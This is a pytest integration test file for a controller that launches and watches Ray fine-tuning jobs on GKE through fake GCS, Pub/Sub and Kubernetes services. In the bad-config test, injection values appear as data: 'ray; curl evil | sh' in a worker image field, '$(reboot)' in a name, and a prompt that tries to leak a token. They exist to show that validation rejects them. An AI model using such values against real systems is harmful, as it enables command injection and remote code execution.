"""Launch and watch over HTTP (functions-framework) on fake-gcs-server, the Pub/Sub emulator, the
Kubernetes API fake and a fake GKE ClusterManager."""

from __future__ import annotations

import datetime as dt
import json
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
import yaml

from functions.adapters.gcs import storage_client
from functions.core.result import RunResult
from functions.core.runs import State
from tests.fakes.http_events import post, pubsub_event, storage_event
from tests.harness import CLUSTER_PATH, HF_TOKEN, TRACKING_CREDENTIALS

QUICK = {"name": "shop-descriptions", "scaling": {"nodes": 2}, "deadlines": {"pending_seconds": 600}}


def upload(bucket: str, name: str, content: dict | bytes) -> int:
    blob = storage_client().bucket(bucket).blob(name)
    blob.upload_from_string(content if isinstance(content, bytes) else json.dumps(content))
    return blob.generation


def launch_upload(server, bucket, name, content, **kw):
    generation = upload(bucket, name, content)
    size = len(content) if isinstance(content, bytes) else len(json.dumps(content))
    return post(server["launch"], storage_event(bucket, name, generation, size=size, **kw))


def watch(server, body=None):
    response = post(server["watch"], pubsub_event(body or {"kind": "tick"}))
    assert response.status_code == 200, response.text
    return response


def only_record(h):
    [record] = [
        h.ctx.store.get(name.removeprefix("runs/").removesuffix(".json"))
        for name in h.ctx.store.blobs.list("runs/")
        if not name.startswith("runs/active/")
    ]
    return record


def wait_for(condition, timeout=60):
    """condition()'s first truthy value, polled (pushed deliveries arrive when the emulator sends them)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if found := condition():
            return found
        time.sleep(0.2)
    raise AssertionError("timed out")


def workers(h):
    """The RayCluster's worker nodes: in all (`replicas`) and per run's group (`groups`)."""
    specs = h.kube.get("rayclusters", "gemma3-tuning")["spec"]["workerGroupSpecs"]
    groups = {g["groupName"]: g["replicas"] for g in specs}
    # KubeRay clamps replicas up to minReplicas: both move together, or scaling down would not happen.
    assert all(g["minReplicas"] == g["replicas"] for g in specs), specs
    return {"replicas": sum(groups.values()), "groups": groups}


def write_result(h, run_id, **extra):
    record = h.ctx.store.get(run_id)
    bucket, _, prefix = record.config["storage_path"].removeprefix("gs://").partition("/")
    result = {
        "final_checkpoint": f"gs://{bucket}/{prefix}/{run_id}/checkpoint_2/checkpoint",
        "best_checkpoint": f"gs://{bucket}/{prefix}/{run_id}/checkpoint_1/checkpoint",
        "metrics": {"train_loss": 1.25, "num_tokens": 1000},
        **extra,
    }
    upload(bucket, f"{prefix}/{run_id}/result.json", result)
    return result


def test_upload_launches_a_run(controller, functions_server, bucket):
    h = controller
    response = launch_upload(functions_server, bucket, "configs/shop.json", QUICK)
    assert response.status_code == 200, response.text
    record = only_record(h)
    assert record.state == State.SUBMITTED and record.run_id.startswith("shop-")
    assert h.gke.calls == ["get"]  # one cluster lookup reaches its API too
    assert [t.state for t in record.history] == [State.RECEIVED, State.SUBMITTED]
    assert record.config["storage_path"] == f"gs://{bucket}/checkpoints"
    assert h.kube.names("rayjobs") == [record.run_id]
    assert h.kube.get("secrets", "hf-secret")["stringData"]["hf_api_token"] == HF_TOKEN
    from trainer.codehash import code_files

    shipped = h.kube.get("configmaps", "ray-job-cm")["data"]
    assert sorted(shipped) == sorted(path.replace("/", "-") for path in code_files())
    assert workers(h)["replicas"] == 2
    runtime = yaml.safe_load(h.kube.get("rayjobs", record.run_id)["spec"]["runtimeEnvYAML"])
    assert runtime["env_vars"]["RAYTUNE_WATCH_TOPIC"] == h.ctx.settings.watch_topic


def test_other_objects_in_the_bucket_are_ignored(controller, functions_server, bucket):
    for name in ("runs/x.json", "checkpoints/a/result.json", "configs/readme.txt"):
        response = post(functions_server["launch"], storage_event(bucket, name, 1))
        assert response.status_code == 200
    assert controller.ctx.store.blobs.list("runs/") == []


def test_duplicate_event_storm_launches_once(controller, functions_server, bucket):
    generation = upload(bucket, "configs/storm.json", QUICK)
    event = storage_event(bucket, "configs/storm.json", generation)
    with ThreadPoolExecutor(20) as pool:
        responses = list(pool.map(lambda _: post(functions_server["launch"], event), range(20)))
    assert [r.status_code for r in responses] == [200] * 20
    record = only_record(controller)
    assert record.state == State.SUBMITTED
    assert controller.kube.names("rayjobs") == [record.run_id]
    assert controller.kube.calls("PATCH", "/rayjobs/") == 1  # one handler applied it, 19 saw the record
    # A re-upload is a new generation, hence a new run.
    launch_upload(functions_server, bucket, "configs/storm.json", QUICK)
    assert len(controller.kube.names("rayjobs")) == 2


@pytest.mark.parametrize(
    "content,reason",
    [
        (b"{not json", "not valid JSON"),
        ({"name": "x", "lora": {"rank": 4}}, "lora.rank: unknown field"),
        ({"cluster": {"worker_image": "ray; curl evil | sh"}}, "cluster.worker_image: String should match pattern"),
        ({"name": "$(reboot)"}, "name: String should match pattern"),
        ({"prompts": {"system": "leak " + HF_TOKEN, "user": "{nope}"}}, "unknown placeholders"),
    ],
)
def test_bad_configs_are_rejected_not_retried(controller, functions_server, bucket, content, reason):
    response = launch_upload(functions_server, bucket, "configs/bad.json", content)
    assert response.status_code == 200  # acknowledged: no retry storm
    record = only_record(controller)
    assert record.state == State.REJECTED and any(reason in e for e in record.errors), record.errors
    assert record.settled and controller.ctx.store.blobs.list("runs/active/") == []
    assert controller.kube.requests == []  # nothing applied, not even the Secret
    [event] = controller.finished_events()
    assert event["state"] == "REJECTED" and event["run_id"] == record.run_id
    assert HF_TOKEN not in json.dumps(record.model_dump(mode="json"))


def test_oversized_config_is_rejected_from_the_event_alone(controller, functions_server, bucket):
    response = post(functions_server["launch"], storage_event(bucket, "configs/huge.json", 7, size=10**9))
    assert response.status_code == 200
    record = only_record(controller)
    assert record.state == State.REJECTED and "the limit is 65536" in record.reason


def test_stale_event_is_recorded_not_launched(controller, functions_server, bucket):
    old = dt.datetime.now(dt.UTC) - dt.timedelta(hours=3)
    response = launch_upload(functions_server, bucket, "configs/late.json", QUICK, when=old)
    assert response.status_code == 200
    record = only_record(controller)
    assert record.state == State.REJECTED and "older than RAYTUNE_MAX_EVENT_AGE_S=3600" in record.reason
    assert controller.kube.names("rayjobs") == []


def test_missing_cluster_is_created_without_waiting(controller, functions_server, bucket):
    h = controller
    h.gke.clusters.clear()
    launch_upload(functions_server, bucket, "configs/new.json", QUICK)
    record = only_record(h)
    assert record.state == State.PROVISIONING and "creating GKE Autopilot cluster raytune" in record.reason
    created = h.gke.clusters[CLUSTER_PATH]
    assert created.autopilot.enabled and created.addons_config.ray_operator_config.enabled
    assert created.addons_config.ray_operator_config.ray_cluster_logging_config.enabled
    assert created.addons_config.ray_operator_config.ray_cluster_monitoring_config.enabled
    # As Terraform's: VPC-native, private nodes (egress through Cloud NAT), on the configured network.
    assert created.ip_allocation_policy.use_ip_aliases and created.private_cluster_config.enable_private_nodes
    assert created.network == "default"
    assert h.kube.requests == []
    watch(functions_server)  # still provisioning: stays
    assert h.ctx.store.get(record.run_id).state == State.PROVISIONING
    assert h.gke.calls.count("create") == 1
    h.gke.finish_provisioning()
    watch(functions_server)
    assert h.ctx.store.get(record.run_id).state == State.SUBMITTED
    assert h.kube.names("rayjobs") == [record.run_id]


def test_functions_not_allowed_to_create_clusters_say_what_to_do(controller, functions_server, bucket):
    """With functions_create_clusters=false (roles/container.developer) a missing cluster or add-on fails the
    run with the fix, instead of a 403 retry storm."""
    h = controller
    h.ctx.platform.clusters.create = False
    h.gke.clusters.clear()
    launch_upload(functions_server, bucket, "configs/none.json", QUICK)
    record = only_record(h)
    assert record.state == State.FAILED and "create_gke_cluster=true" in record.reason
    h.gke.add_running(CLUSTER_PATH, ray_operator=False)
    launch_upload(functions_server, bucket, "configs/off.json", QUICK)
    names = [n for n in h.ctx.store.blobs.list("runs/") if not n.startswith("runs/active/")]
    [off] = [r for r in (h.ctx.store.get(n[5:-5]) for n in names) if r.run_id != record.run_id]
    assert off.state == State.FAILED and "--update-addons=RayOperator=ENABLED" in off.reason
    assert "create" not in h.gke.calls and "update" not in h.gke.calls


def test_cluster_without_ray_operator_gets_it(controller, functions_server, bucket):
    h = controller
    h.gke.clusters.clear()
    h.gke.add_running(CLUSTER_PATH, ray_operator=False)
    launch_upload(functions_server, bucket, "configs/addon.json", QUICK)
    record = only_record(h)
    assert record.state == State.PROVISIONING and "enabling the Ray operator" in record.reason
    assert h.gke.clusters[CLUSTER_PATH].addons_config.ray_operator_config.enabled


def test_provisioning_deadline_fails_the_run(controller, functions_server, bucket):
    h = controller
    h.gke.clusters.clear()
    launch_upload(functions_server, bucket, "configs/slow.json", QUICK)
    h.clock.advance(601)
    watch(functions_server)
    record = only_record(h)
    assert record.state == State.FAILED and "pending_seconds (600s)" in record.reason
    assert h.finished_events()[0]["state"] == "FAILED"


def test_kube_outage_is_retried_and_nothing_is_lost(controller, functions_server, bucket):
    """A delivery that fails (it answers 500, so the platform redelivers) gives its claim back: the redelivery
    takes the run over at once instead of answering 200 and leaving it RECEIVED until the claim expires."""
    h = controller
    h.kube.fail("PATCH", "/rayjobs/", 503, times=4)  # every attempt of the first delivery
    generation = upload(bucket, "configs/flaky.json", QUICK)
    event = storage_event(bucket, "configs/flaky.json", generation)
    assert post(functions_server["launch"], event).status_code == 500  # the platform redelivers
    record = only_record(h)
    assert record.state == State.RECEIVED and record.claim_released and h.kube.names("rayjobs") == []
    assert post(functions_server["launch"], event).status_code == 200
    done = h.ctx.store.get(record.run_id)
    assert done.state == State.SUBMITTED and not done.claim_released
    assert h.kube.names("rayjobs") == [record.run_id]
    assert post(functions_server["launch"], event).status_code == 200  # one more: a duplicate, nothing new
    assert h.kube.names("rayjobs") == [record.run_id] and h.ctx.store.get(record.run_id).history == done.history


def test_a_launch_that_died_keeps_its_claim_until_it_expires(controller, functions_server, bucket, monkeypatch):
    """A handler killed outright gives nothing back: its claim holds a redelivery off until it expires (the
    handler may still be at work), then the redelivery, or the watcher, takes over."""
    from functions.handlers import launch as launch_module

    h = controller
    monkeypatch.setattr(launch_module, "give_claim_back", lambda ctx, run_id: None)  # killed: nothing runs after
    h.kube.fail("PATCH", "/rayjobs/", 503, times=4)
    generation = upload(bucket, "configs/killed.json", QUICK)
    event = storage_event(bucket, "configs/killed.json", generation)
    assert post(functions_server["launch"], event).status_code == 500
    record = only_record(h)
    assert post(functions_server["launch"], event).status_code == 200
    assert h.kube.names("rayjobs") == [] and h.ctx.store.get(record.run_id).state == State.RECEIVED
    h.clock.advance(121)
    assert post(functions_server["launch"], event).status_code == 200
    assert h.ctx.store.get(record.run_id).state == State.SUBMITTED


def test_watcher_picks_up_a_run_whose_launch_died(controller, functions_server, bucket, monkeypatch):
    from functions.handlers import launch as launch_module

    h = controller
    monkeypatch.setattr(launch_module, "give_claim_back", lambda ctx, run_id: None)  # killed: nothing runs after
    h.kube.fail("PATCH", "/rayjobs/", 500, times=4)
    assert launch_upload(functions_server, bucket, "configs/dead.json", QUICK).status_code == 500
    watch(functions_server)
    assert only_record(h).state == State.RECEIVED  # claim still fresh
    h.clock.advance(121)
    watch(functions_server)
    assert only_record(h).state == State.SUBMITTED


def test_watcher_takes_over_at_once_a_run_whose_launch_failed(controller, functions_server, bucket):
    h = controller
    h.kube.fail("PATCH", "/rayjobs/", 500, times=4)
    assert launch_upload(functions_server, bucket, "configs/failed.json", QUICK).status_code == 500
    watch(functions_server)
    assert only_record(h).state == State.SUBMITTED  # the failed launch gave its claim back


def test_run_to_success_records_results_and_scales_down(controller, functions_server, bucket):
    h = controller
    launch_upload(functions_server, bucket, "configs/ok.json", QUICK)
    run_id = only_record(h).run_id
    h.kube.set_status("rayjobs", run_id, {"jobStatus": "RUNNING", "jobDeploymentStatus": "Running"})
    watch(functions_server)
    assert h.ctx.store.get(run_id).state == State.RUNNING
    patches = h.kube.calls("PATCH")
    watch(functions_server)  # nothing changed: no writes, no patches
    assert h.kube.calls("PATCH") == patches
    result = write_result(h, run_id)
    h.kube.set_status(
        "rayjobs",
        run_id,
        {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete", "endTime": "2026-12-02T10:00:00Z"},
    )
    watch(functions_server, {"kind": "finished", "run_id": run_id})
    record = h.ctx.store.get(run_id)
    assert record.state == State.SUCCEEDED and record.settled
    assert record.result == RunResult.model_validate(result) and record.job["endTime"] == "2026-12-02T10:00:00Z"
    assert workers(h)["replicas"] == 0
    [event] = h.finished_events()
    assert event["state"] == "SUCCEEDED" and event["best_checkpoint"] == result["best_checkpoint"]
    assert event["metrics"] == result["metrics"]
    assert h.ctx.store.blobs.list("runs/active/") == []


def test_an_ended_run_releases_exactly_its_nodes_and_never_a_live_runs(controller, functions_server, bucket):
    """Issue 21: a 1-node run kept a 5-node group until it ended, because the one shared group never shrank
    while any run held nodes (KubeRay removes random workers on a decrease). Each run has its own group now:
    the group that goes to zero is the ended run's, in the tick that sees it end, and drained groups leave."""
    from functions.core.allocation import group_name

    h = controller
    launch_upload(functions_server, bucket, "configs/a.json", QUICK)
    launch_upload(functions_server, bucket, "configs/b.json", {**QUICK, "scaling": {"nodes": 1}})
    runs = {r.config["scaling"]["nodes"]: r.run_id for r in h.ctx.store.active()}
    assert workers(h)["groups"] == {group_name(runs[2]): 2, group_name(runs[1]): 1}  # side by side, their own
    pod = f"gemma3-tuning-{group_name(runs[1])}-worker-abcde"
    labels = {"ray.io/cluster": "gemma3-tuning", "ray.io/group": group_name(runs[1])}
    h.kube.put("pods", {"metadata": {"name": pod, "labels": labels}, "status": {"phase": "Running"}})
    h.kube.set_status("rayjobs", runs[1], {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete"})
    watch(functions_server)
    assert h.ctx.store.get(runs[1]).state == State.SUCCEEDED
    assert workers(h)["groups"] == {group_name(runs[2]): 2, group_name(runs[1]): 0}  # exactly its node goes
    watch(functions_server)
    assert group_name(runs[1]) in workers(h)["groups"], "kept at zero while KubeRay still deletes its pod"
    del h.kube.objects[("pods", "default", pod)]  # KubeRay deleted it
    watch(functions_server)
    assert workers(h)["groups"] == {group_name(runs[2]): 2}  # drained: out of the spec
    h.kube.set_status(
        "rayjobs",
        runs[2],
        {"jobStatus": "FAILED", "jobDeploymentStatus": "Failed", "reason": "AppFailed", "message": "OOM"},
    )
    watch(functions_server)
    record = h.ctx.store.get(runs[2])
    assert record.state == State.FAILED and record.reason == "AppFailed; OOM"
    assert workers(h)["replicas"] == 0


def test_scale_down_loses_the_race_to_a_launch(controller, bucket):
    """A launch that scales the cluster up between the watcher's read and its patch wins (409)."""
    from functions.handlers import watch as watch_handler
    from functions.handlers.launch import handle as launch_handle
    from functions.local.cloudevents import message_published, object_finalized

    h = controller
    generation = upload(bucket, "configs/first.json", QUICK)
    first = launch_handle(object_finalized(bucket, "configs/first.json", generation), h.ctx)
    h.kube.set_status("rayjobs", first.run_id, {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete"})
    real_workers = h.ctx.platform.workers
    second = {}

    def workers_then_launch(spec):
        read = real_workers(spec)
        if not second:  # another launch lands right after the watcher read the group
            second["launching"] = True  # (its own read of the group must not launch a third)
            g = upload(bucket, "configs/second.json", QUICK)
            second["record"] = launch_handle(object_finalized(bucket, "configs/second.json", g), h.ctx)
        return read

    h.ctx.platform.workers = workers_then_launch
    watch_handler.handle(message_published({"kind": "tick"}, "1"), h.ctx)
    assert h.ctx.store.get(first.run_id).state == State.SUCCEEDED
    assert second["record"].state == State.SUBMITTED
    assert workers(h)["replicas"] == 2  # the second run keeps its workers


def test_cancel_stops_the_rayjob(controller, functions_server, bucket):
    h = controller
    launch_upload(functions_server, bucket, "configs/c.json", QUICK)
    run_id = only_record(h).run_id
    watch(functions_server, {"kind": "cancel", "run_id": run_id})
    record = h.ctx.store.get(run_id)
    assert record.state == State.CANCELLED and h.kube.names("rayjobs") == []
    assert workers(h)["replicas"] == 0 and record.settled
    # the tick listed the job before it stopped it: not a leak
    assert h.events_of("leak") == [] and len(h.events_of("run-finished")) == 1


def test_hung_initializing_job_fails_at_the_deadline(controller, functions_server, bucket):
    h = controller
    launch_upload(functions_server, bucket, "configs/hang.json", QUICK)
    run_id = only_record(h).run_id
    h.kube.set_status("rayjobs", run_id, {"jobDeploymentStatus": "Initializing"})
    watch(functions_server)
    assert h.ctx.store.get(run_id).state == State.SUBMITTED
    h.clock.advance(601)
    watch(functions_server)
    record = h.ctx.store.get(run_id)
    assert record.state == State.FAILED and "still Initializing after 601s" in record.reason
    assert h.kube.names("rayjobs") == []  # stopped so it cannot grab GPUs later


def test_deployment_failed_while_job_running_is_terminal(controller, functions_server, bucket):
    h = controller
    launch_upload(functions_server, bucket, "configs/bug.json", QUICK)
    run_id = only_record(h).run_id
    h.kube.set_status(
        "rayjobs", run_id, {"jobStatus": "RUNNING", "jobDeploymentStatus": "Failed", "reason": "DeadlineExceeded"}
    )
    watch(functions_server)
    assert h.ctx.store.get(run_id).state == State.FAILED
    assert h.kube.names("rayjobs") == []


def test_launch_messages_inline_uri_and_nightly(controller, functions_server, bucket):
    h = controller
    assert post(functions_server["launch"], pubsub_event({"config": QUICK, "run_name": "crm"})).status_code == 200
    upload(bucket, "library/nightly.json", QUICK)
    nightly = {"config_uri": f"gs://{bucket}/library/nightly.json", "nightly": True}
    for message_id in ("m1", "m2"):  # the scheduler fired twice the same day
        assert post(functions_server["launch"], pubsub_event(nightly, message_id=message_id)).status_code == 200
    post(functions_server["launch"], pubsub_event({"config_uri": f"gs://{bucket}/library/missing.json"}))
    post(functions_server["launch"], pubsub_event(b"\x00 not json"))
    records = {
        r.source["kind"] + ":" + r.state.value: r
        for r in (h.ctx.store.get(n[5:-5]) for n in h.ctx.store.blobs.list("runs/") if not n.startswith("runs/active"))
    }
    today = dt.datetime.now(dt.UTC).strftime("%Y%m%d")
    assert records["message:SUBMITTED"].run_id.startswith("crm-")
    assert records["nightly:SUBMITTED"].run_id == f"nightly-{today}"
    assert "does not exist" in records["message:REJECTED"].reason or "not JSON" in records["message:REJECTED"].reason
    assert len(records) == 3 and len(h.kube.names("rayjobs")) == 2


def test_pubsub_push_delivers_launch_messages(controller, functions_server, pubsub):
    """The emulator pushes to functions-framework as a Pub/Sub push subscription does in the cloud."""
    topic = pubsub.topic("launch")
    pubsub.subscribe(topic, push_endpoint=functions_server["launch"])
    pubsub.publisher.publish(topic, json.dumps({"config": QUICK, "run_name": "pushed"}).encode()).result()
    deadline = time.monotonic() + 60  # the emulator backs off after a failed push; a busy machine is slow

    def submitted() -> bool:  # the RayJob is applied a moment before the record says SUBMITTED
        jobs = controller.kube.names("rayjobs")
        return bool(jobs) and controller.ctx.store.get(jobs[0]).state == State.SUBMITTED

    while time.monotonic() < deadline and not submitted():
        time.sleep(0.2)
    [run_id] = controller.kube.names("rayjobs")
    assert run_id.startswith("pushed-") and controller.ctx.store.get(run_id).state == State.SUBMITTED


@pytest.mark.parametrize("secret", [HF_TOKEN, *TRACKING_CREDENTIALS.values()], ids=["hf", "wandb", "mlflow"])
def test_credentials_never_leave_the_secret(controller, functions_server, bucket, capfd, secret):
    """The HF token and the tracking destinations' credentials: in the pods' Secret, each under its name, and
    nowhere else (a config that names one as its run name is rejected without repeating it)."""
    from functions.handlers import logs

    logs.setup()
    h = controller
    launch_upload(
        functions_server,
        bucket,
        "configs/secret.json",
        {**QUICK, "tracking": {"mlflow": {"uri": "https://mlflow.example.com"}}},
    )
    run_id = only_record(h).run_id
    write_result(h, run_id)
    h.kube.set_status("rayjobs", run_id, {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete"})
    watch(functions_server)
    launch_upload(functions_server, bucket, "configs/leaky.json", {"name": secret})
    client = storage_client()
    for blob in client.list_blobs(bucket):
        if blob.name.startswith("configs/"):
            continue  # what the user uploaded is theirs; everything we wrote is checked
        assert secret.encode() not in blob.download_as_bytes(), blob.name
    for plural in ("configmaps", "rayclusters", "rayjobs"):
        for name in h.kube.names(plural):
            assert secret not in json.dumps(h.kube.get(plural, name)), (plural, name)
    assert all(secret not in json.dumps(e) for e in h.finished_events())
    out, err = capfd.readouterr()
    assert "SUBMITTED" in out and secret not in out + err
    held = h.kube.get("secrets", "hf-secret")["stringData"]
    assert held == {"hf_api_token": HF_TOKEN, **TRACKING_CREDENTIALS}


def test_permanent_kube_error_fails_the_run_instead_of_retrying(controller, functions_server, bucket):
    h = controller
    h.kube.fail("PATCH", "/configmaps/", 404, times=1)  # e.g. the namespace does not exist
    response = launch_upload(functions_server, bucket, "configs/nons.json", QUICK)
    assert response.status_code == 200  # acknowledged: redelivery would fail the same way
    record = only_record(h)
    assert record.state == State.FAILED and record.reason.startswith("cannot submit: HTTP 404: injected fault 404")
    assert h.kube.names("rayjobs") == []
    assert h.finished_events()[0]["state"] == "FAILED"


def test_user_labels_cannot_hijack_ours(controller, functions_server, bucket):
    labels = {"team": "vision", "raytune.dev/run-id": "someone-else"}
    launch_upload(functions_server, bucket, "configs/labels.json", {**QUICK, "labels": labels})
    record = only_record(controller)
    job_labels = controller.kube.get("rayjobs", record.run_id)["metadata"]["labels"]
    assert job_labels["team"] == "vision" and job_labels["raytune.dev/run-id"] == record.run_id


def test_orphan_marker_is_dropped_once_old(controller, functions_server):
    h = controller
    h.ctx.store.mark_active("ghost-0123456789")  # a launch died between the marker and the record
    watch(functions_server)
    assert h.ctx.store.blobs.list("runs/active/") == ["runs/active/ghost-0123456789"]
    h.clock.advance(601)
    watch(functions_server)
    assert h.ctx.store.blobs.list("runs/active/") == []


def test_yaml_upload_launches_a_run(controller, functions_server, bucket):
    text = b"name: shop-yaml\nscaling:\n  nodes: 2\ndeadlines:\n  pending_seconds: 600\n"
    response = launch_upload(functions_server, bucket, "configs/shop.yaml", text)
    assert response.status_code == 200, response.text
    record = only_record(controller)
    assert record.state == State.SUBMITTED and record.run_id.startswith("shop-")
    assert record.config["name"] == "shop-yaml"


def test_cancel_records_who_asked(controller, functions_server, bucket):
    from functions.handlers.watch import request_cancel

    h = controller
    launch_upload(functions_server, bucket, "configs/c.json", QUICK)
    run_id = only_record(h).run_id
    request_cancel(h.ctx, run_id, "interrupted (SIGINT)")
    watch(functions_server)
    record = h.ctx.store.get(run_id)
    assert record.state == State.CANCELLED and record.reason == "interrupted (SIGINT)"
    assert h.kube.names("rayjobs") == []


def test_a_field_the_clusters_kuberay_does_not_know_fails_the_run_naming_it(controller, functions_server, bucket):
    """The fake answers an undeclared field's apply as the real API server does (500, "field not declared in
    schema"; tests/contract/test_realkube.py holds the same on the real one): FAILED at once, naming it."""
    from tests.fakes import kuberay_fields

    h = controller
    known = kuberay_fields.RAYJOB_SPEC
    kuberay_fields.RAYJOB_SPEC = known - {"activeDeadlineSeconds"}  # an older KubeRay's RayJob
    try:
        assert launch_upload(functions_server, bucket, "configs/old.json", QUICK).status_code == 200
    finally:
        kuberay_fields.RAYJOB_SPEC = known
    record = only_record(h)
    assert (
        record.state == State.FAILED
        and "the cluster's KubeRay does not know .spec.activeDeadlineSeconds" in record.reason
    )
    assert h.kube.names("rayjobs") == [] and h.kube.calls("PATCH", "/rayjobs/") == 1  # not retried
    assert workers(h)["replicas"] == 0


def test_a_missing_namespace_fails_the_run_naming_it(controller, functions_server, bucket):
    """The fake answers writes into a namespace that does not exist as the real API server does (404
    `namespaces "X" not found`; tests/contract/test_realkube.py holds the same on the real one)."""
    import dataclasses

    from functions.core.policy import Policy

    h = controller
    h.ctx.settings = dataclasses.replace(h.ctx.settings, policy=Policy(namespaces=("team-*",)))
    quick = {**QUICK, "cluster": {"namespace": "team-x"}}
    assert launch_upload(functions_server, bucket, "configs/nons.json", quick).status_code == 200
    record = only_record(h)
    assert record.state == State.FAILED and 'namespaces "team-x" not found' in record.reason, record.reason
    assert h.kube.names("rayjobs") == []


def test_a_deleted_gke_cluster_is_a_fact_the_tick_moves_past(controller, functions_server, bucket):
    """Issue 39: once a GKE cluster holding only an idle allocation was deleted, every tick answered 500 for the
    life of the instance (its cached Kubernetes client was never dropped). The tick asks GKE, records the cluster
    gone (the allocation settled, the client dropped) and answers 200; a later cluster of the same name is served
    afresh."""
    from tests.harness import CLUSTER_PATH

    h = controller
    launch_upload(functions_server, bucket, "configs/before.json", QUICK)
    run = only_record(h)
    write_result(h, run.run_id)
    h.kube.set_status("rayjobs", run.run_id, {"jobStatus": "SUCCEEDED", "jobDeploymentStatus": "Complete"})
    watch(functions_server)
    spec = run.run_config().cluster
    assert h.ctx.store.get(run.run_id).settled and not h.ctx.allocations.get(spec).holders
    # GKE deletes the cluster: its API server no longer answers, and GKE no longer knows it.
    with h.gke.lock:
        del h.gke.clusters[CLUSTER_PATH]
    for method in ("GET", "PATCH", "POST", "DELETE"):
        h.kube.fail(method, "/", 503, times=10_000)
    for _ in range(2):
        watch(functions_server)  # 200, every time
    assert h.ctx.allocations.get(spec).deleted
    assert h.ctx.platform._kubes == {}
    # A new cluster of the same name: the next launch reaches it afresh.
    h.gke.add_running(CLUSTER_PATH)
    h.kube.faults.clear()
    launch_upload(functions_server, bucket, "configs/after.json", QUICK)
    after = [r for r in h.ctx.store.active() if r.run_id != run.run_id]
    assert [r.state for r in after] == [State.SUBMITTED]
